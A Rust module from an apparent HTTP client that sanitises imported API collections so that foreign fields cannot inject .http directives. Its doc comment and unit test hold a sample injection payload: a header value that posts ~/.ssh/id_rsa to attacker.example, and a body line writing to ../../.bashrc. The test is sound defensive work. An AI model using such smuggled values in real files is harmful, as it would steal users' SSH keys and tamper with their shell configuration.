//! What an import writes cannot change meaning: every field of a foreign
//! file (a Postman collection, an OpenAPI document, a customer's HAR) is
//! checked before it becomes `.http` text, so a header value holding
//! `\n\n### …\nPOST http://attacker/…\n\n< ~/.ssh/id_rsa`, or a body line
//! `>>! ../../.bashrc`, stays a value and a body line.
//!
//! - A one-line field (a name, a title, a URL, a header, a variable) with
//!   a line break or a control character is escaped (a URL, percent-encoded)
//!   or dropped, with a note.
//! - A body with a line `.http` would read as a directive (`###`, `>`,
//!   `>>`, `<`, `<>`, `%}`, `@x =`, `# @`) goes to a file beside the collection
//!   (`< ./bodies/NAME.json`), read back as it was.
//! - Names are slugged, so none reads as a directive.
//! - What the collection will read, write or take from the process is
//!   listed for the summary ([`Imported::effects`]).

use super::{Body, HttpRequest, Imported};

/// Where moved bodies go, beside the `.http` file.
pub const BODIES: &str = "bodies";

/// Makes `imported` safe to write as `.http`; what it changed goes to
/// `skipped`, what the collection will do to `effects`.
pub fn harden(imported: &mut Imported) {
    let mut notes = Vec::new();
    // (Both go into the file's first comment line.)
    imported.name = one_line(&imported.name);
    imported.source = one_line(&imported.source);
    imported.variables.retain_mut(|(k, v)| {
        let name = slug(k);
        if name != *k {
            notes.push(format!("variable '{}' renamed '{name}'", printable(k)));
            *k = name;
        }
        if has_control(v) {
            notes.push(format!(
                "variable '{k}': its value holds a line break or a control character; not carried over"
            ));
            return false;
        }
        true
    });
    let before = imported.requests.len();
    imported.requests.retain(|r| !r.url.trim().is_empty());
    if imported.requests.len() < before {
        notes.push(format!(
            "{} request(s) with no URL not carried over",
            before - imported.requests.len()
        ));
    }
    let mut used_files: Vec<String> = Vec::new();
    for (i, r) in imported.requests.iter_mut().enumerate() {
        let where_ = format!("request {}", i + 1);
        harden_request(r, &where_, &mut notes, &mut imported.files, &mut used_files);
    }
    imported.skipped.extend(notes);
    imported.effects = effects(imported);
}

fn harden_request(
    r: &mut HttpRequest,
    where_: &str,
    notes: &mut Vec<String>,
    files: &mut Vec<(String, String)>,
    used: &mut Vec<String>,
) {
    if let Some(t) = &r.title
        && has_control(t)
    {
        r.title = Some(one_line(t));
        notes.push(format!("{where_}: a line break in its name was replaced"));
    }
    if let Some(n) = &r.name {
        let s = slug(n);
        if s != *n {
            r.name = Some(s);
        }
    }
    // Scripts: only files the importer wrote under scripts/ (never code
    // in the `.http` text).
    for (slot, what) in [(&mut r.pre, "pre-request"), (&mut r.handler, "test")] {
        let keep = match slot.as_ref().map(|s| &s.code) {
            None => true,
            Some(crate::collection::ScriptCode::File(f)) => f
                .strip_prefix("./")
                .is_some_and(|rel| files.iter().any(|(p, _)| p == rel) && !rel.contains("..")),
            Some(crate::collection::ScriptCode::Inline(_)) => false,
        };
        if !keep {
            *slot = None;
            notes.push(format!("{where_}: its {what} script was not carried over"));
        }
    }
    for c in &mut r.comments {
        if has_control(c) {
            *c = one_line(c);
        }
    }
    let method = r.method.trim().to_ascii_uppercase();
    // (What the parser reads as a method: a known one, or three or more
    // capitals.)
    let known = [
        "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT",
    ];
    if !(known.contains(&method.as_str())
        || (method.len() >= 3 && method.bytes().all(|b| b.is_ascii_uppercase())))
    {
        notes.push(format!(
            "{where_}: the method '{}' is not a method; sent as GET",
            printable(&r.method)
        ));
        r.method = "GET".into();
    } else {
        r.method = method;
    }
    let url = encode_url(&r.url);
    if url != r.url {
        notes.push(format!(
            "{where_}: spaces or control characters in the URL were percent-encoded"
        ));
        r.url = url;
    }
    r.headers.retain(|h| {
        // An HTTP token (RFC 9110 tchar): no `>`, `<`, `:` or space that
        // would make the line something else.
        // (A `#` first would make the line a comment, or `###` a separator.)
        // A `{{variable}}` (a plain name) in it is kept: newman resolves
        // it, and so does apiscope.
        let bare = without_vars(&h.name);
        let name_ok = !h.name.is_empty()
            && !h.name.starts_with('#')
            && !bare.is_empty()
            && bare.bytes().all(|b| {
                b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b)
            });
        if !name_ok {
            notes.push(format!(
                "{where_}: the header name '{}' is not one; not carried over",
                printable(&h.name)
            ));
            return false;
        }
        if has_control(&h.value) {
            notes.push(format!(
                "{where_}: the {} header's value holds a line break or a control character; not carried over",
                h.name
            ));
            return false;
        }
        true
    });
    if r.output.take().is_some() {
        notes.push(format!("{where_}: a `>>` output was not carried over"));
    }
    let multipart = r.headers.iter().any(|h| {
        h.name.eq_ignore_ascii_case("content-type")
            && h.value.to_ascii_lowercase().starts_with("multipart/")
    });
    if let Body::Text(t) = &r.body
        && has_directive(t, multipart)
    {
        let ext = body_ext(r);
        let base = r.name.clone().unwrap_or_else(|| slug(where_));
        let mut file = format!("{BODIES}/{base}.{ext}");
        let mut n = 2;
        while used.contains(&file) {
            file = format!("{BODIES}/{base}-{n}.{ext}");
            n += 1;
        }
        used.push(file.clone());
        let substitute = crate::template::has_placeholder(t);
        files.push((file.clone(), t.clone()));
        notes.push(format!(
            "{where_}: its body holds lines a .http file would read as directives; it is in ./{file}"
        ));
        r.body = Body::File {
            path: format!("./{file}"),
            substitute,
        };
    }
}

/// Whether a body holds a line `.http` would read as something else than
/// body text. In a multipart body the importer's own part-file lines
/// (`< path` right after a part's headers and their blank line) are
/// syntax, not text (the path is listed in the summary, and read only as
/// the trust model allows).
fn has_directive(body: &str, multipart: bool) -> bool {
    let lines: Vec<&str> = body.lines().collect();
    lines.iter().enumerate().any(|(i, l)| {
        let part_file = multipart
            && l.starts_with("< ")
            && i >= 2
            && lines[i - 1].is_empty()
            && lines[i - 2].to_ascii_lowercase().starts_with("content-");
        !part_file && is_directive(l)
    })
}

/// A body line `.http` would read as something else than body text.
fn is_directive(line: &str) -> bool {
    let t = line.trim_start();
    t.starts_with("###")
        || t.starts_with("%}")
        || t.starts_with('>')
        || t.starts_with('<')
        || t.starts_with("??")
        || t.starts_with("# @")
        || t.starts_with("// @")
        || (t.starts_with('@') && t.contains('='))
}

fn body_ext(r: &HttpRequest) -> &'static str {
    let ct = r
        .headers
        .iter()
        .find(|h| h.name.eq_ignore_ascii_case("content-type"))
        .map(|h| h.value.to_ascii_lowercase())
        .unwrap_or_default();
    if ct.contains("json") {
        "json"
    } else if ct.contains("xml") {
        "xml"
    } else {
        "txt"
    }
}

/// Whether a one-line field holds a line break or another control
/// character (a tab is one too: it is not kept in a name or a header).
pub fn has_control(s: &str) -> bool {
    s.chars().any(char::is_control)
}

fn one_line(s: &str) -> String {
    s.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

/// A name as a request or a variable may carry it: letters, digits,
/// `_ - . $`; anything else becomes `_`.
pub fn slug(s: &str) -> String {
    let out: String = s
        .chars()
        .map(|c| {
            if c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '$') {
                c
            } else {
                '_'
            }
        })
        .collect();
    if out.is_empty() {
        "unnamed".into()
    } else {
        out
    }
}

/// For a note: control characters shown as escapes, never acting.
fn printable(s: &str) -> String {
    s.chars().flat_map(char::escape_default).take(80).collect()
}

/// Spaces and control characters percent-encoded; `{{…}}` kept.
fn encode_url(u: &str) -> String {
    let mut out = String::with_capacity(u.len());
    for p in crate::template::pieces(u) {
        match p {
            crate::template::Piece::Var(v) if !has_control(v.raw) && !v.raw.contains(' ') => {
                out.push_str(v.raw);
            }
            crate::template::Piece::Var(v) => push_encoded(&mut out, v.raw),
            crate::template::Piece::Text(t) => push_encoded(&mut out, t),
            crate::template::Piece::Unclosed { rest, .. } => push_encoded(&mut out, rest),
        }
    }
    out
}

fn push_encoded(out: &mut String, s: &str) {
    for c in s.chars() {
        if c.is_control() || c.is_whitespace() {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("%{b:02X}"));
            }
        } else {
            out.push(c);
        }
    }
}

/// What the imported collection will read, write or take from the
/// process when it is sent: each one listed in the summary.
fn effects(imported: &Imported) -> Vec<String> {
    let mut out = Vec::new();
    fn scan(out: &mut Vec<String>, where_: &str, text: &str) {
        for v in crate::template::variables(text) {
            if v.starts_with("$processEnv") || v.starts_with("env.") {
                out.push(format!(
                    "{where_} reads the process environment: {{{{{v}}}}}"
                ));
            } else if v.starts_with("$dotenv") {
                out.push(format!("{where_} reads .env: {{{{{v}}}}}"));
            }
        }
    }
    for (k, v) in &imported.variables {
        scan(&mut out, &format!("variable {k}"), v);
    }
    for (i, r) in imported.requests.iter().enumerate() {
        let where_ = format!("request {} '{}'", i + 1, r.label());
        scan(&mut out, &where_, &r.url);
        for h in &r.headers {
            scan(&mut out, &where_, &h.value);
        }
        match &r.body {
            Body::Text(t) => {
                scan(&mut out, &where_, t);
                for l in t.lines() {
                    if let Some(f) = l.trim_start().strip_prefix("< ") {
                        out.push(format!("{where_} reads the file {}", f.trim()));
                    }
                }
            }
            Body::File { path, .. } => out.push(format!("{where_} reads the file {path}")),
            Body::None => {}
        }
        if let Some((f, _)) = &r.output {
            out.push(format!("{where_} writes the file {f}"));
        }
        for (s, what) in [
            (&r.pre, "a pre-request script"),
            (&r.handler, "a test script"),
        ] {
            match s.as_ref().map(|s| &s.code) {
                Some(crate::collection::ScriptCode::File(f)) => out.push(format!(
                    "{where_} runs {what}, {f}, once the collection is trusted"
                )),
                Some(crate::collection::ScriptCode::Inline(_)) => out.push(format!(
                    "{where_} runs {what} once the collection is trusted"
                )),
                None => {}
            }
        }
    }
    out
}

/// A header name with its `{{name}}` parts (letters, digits, `_`, `-`,
/// `.`) taken out, each for an `x`; other braces stay (and fail the check).
fn without_vars(name: &str) -> String {
    use crate::template::Piece;
    let mut out = String::with_capacity(name.len());
    for p in crate::template::pieces(name) {
        match p {
            Piece::Var(v)
                if v.raw.len() > 4
                    && v.raw[2..v.raw.len() - 2]
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"_-.".contains(&b)) =>
            {
                out.push('x');
            }
            Piece::Var(v) => out.push_str(v.raw),
            Piece::Text(t) | Piece::Unclosed { rest: t, .. } => out.push_str(t),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collection::{Header, parse};
    use std::path::Path;

    #[test]
    fn nothing_a_stranger_wrote_becomes_a_directive() {
        let evil = "x\n\n### pwned\nPOST http://attacker.example/steal\n\n< ~/.ssh/id_rsa";
        let mut r = HttpRequest::new("post", "https://api.example.com/a b\n");
        r.name = Some("login\n### x".into());
        r.headers.push(Header {
            name: "X-Evil".into(),
            value: evil.into(),
            line: 0,
        });
        r.headers.push(Header {
            name: "Content-Type".into(),
            value: "application/json".into(),
            line: 0,
        });
        r.body = Body::Text("{\"a\": 1}\n>>! ../../.bashrc\n".into());
        let mut imported = Imported {
            name: "t".into(),
            source: "test".into(),
            variables: vec![("v\n@x".into(), "1".into()), ("ok".into(), "a\nb".into())],
            requests: vec![r],
            ..Imported::default()
        };
        harden(&mut imported);
        let text = imported.http_text();
        let file = parse(Path::new("t.http"), &text).unwrap();
        assert_eq!(file.requests.len(), 1, "{text}");
        let r = &file.requests[0];
        assert_eq!(r.url, "https://api.example.com/a%20b%0A");
        assert!(r.headers.iter().all(|h| h.name != "X-Evil"), "{text}");
        assert_eq!(r.output, None);
        assert_eq!(
            r.body,
            Body::File {
                path: "./bodies/login_____x.json".into(),
                substitute: false
            }
        );
        assert_eq!(imported.files[0].1, "{\"a\": 1}\n>>! ../../.bashrc\n");
        assert!(!text.contains("attacker.example"), "{text}");
        assert_eq!(file.variables.len(), 1, "{text}");
        assert_eq!(file.variables[0].name, "v__x");
        assert!(
            imported
                .effects
                .iter()
                .any(|e| e.contains("reads the file ./bodies/"))
        );
    }
}
